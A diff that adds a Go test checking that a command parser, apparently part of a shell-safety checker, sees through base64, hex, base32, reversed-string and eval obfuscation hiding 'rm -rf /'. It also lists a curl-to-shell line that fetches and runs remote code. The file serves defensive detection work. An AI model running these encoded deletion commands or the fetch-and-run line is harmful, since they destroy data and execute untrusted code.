@@ -763,3 +763,37 @@ func TestScripts(t *testing.T) {
 		})
 	}
 }
+
+// TestDecoded: a literal the line decodes is read as what it decodes to,
+// as a program fed to a shell and as a word; what only the run decodes,
+// and what is encoded, not decoded, stays unknown.
+func TestDecoded(t *testing.T) {
+	for line, want := range map[string]string{
+		`echo cm0gLXJmIC8= | base64 -d | sh`:         "rm|-rf|/",
+		`echo cm0gLXJmIC8K | base64 --decode | bash`: "rm|-rf|/",
+		`printf 'cm0gLXJmIC8=' | base64 -di | sh`:    "rm|-rf|/",
+		`base64 -d <<< cm0gLXJmIC8= | sh`:            "rm|-rf|/",
+		`echo 726d202d7266202f | xxd -r -p | sh`:     "rm|-rf|/",
+		`echo '/ fr- mr' | rev | bash`:               "rm|-rf|/",
+		`echo OJWSALLSMYQC6=== | base32 -d | sh`:     "rm|-rf|/",
+		`eval "$(echo cm0gLXJmIC8= | base64 -d)"`:    "rm|-rf|/",
+		`rm -rf "$(echo L3Vzcg== | base64 -d)"`:      "rm|-rf|/usr",
+		`echo '/ fr- mr' | rev | cat | sh`:           "rm|-rf|/",
+	} {
+		cs, err := Commands(line)
+		require.NoError(t, err, line)
+		assert.True(t, slices.ContainsFunc(cs, func(c Command) bool { return strings.Join(c.Args, "|") == want }), "%q: %q", line, argLines(cs))
+	}
+	for _, line := range []string{
+		`curl -s https://x.io/p | base64 -d | sh`,
+		`echo cm0gLXJmIC8= | base64 | sh`,
+		`echo 'not base64!' | base64 -d | sh`,
+		`echo cm0gLXJmIC8= | base64 -d -w0 | sh`,
+		`echo x | rev | rev | rev | rev | sh`,
+	} {
+		cs, err := Commands(line)
+		require.NoError(t, err, line)
+		assert.False(t, slices.ContainsFunc(cs, func(c Command) bool { return c.Name() == "rm" }), "%q: %q", line, argLines(cs))
+		assert.True(t, slices.ContainsFunc(cs, func(c Command) bool { return c.Program == ProgramStdin }), "%q: %q", line, argLines(cs))
+	}
+}
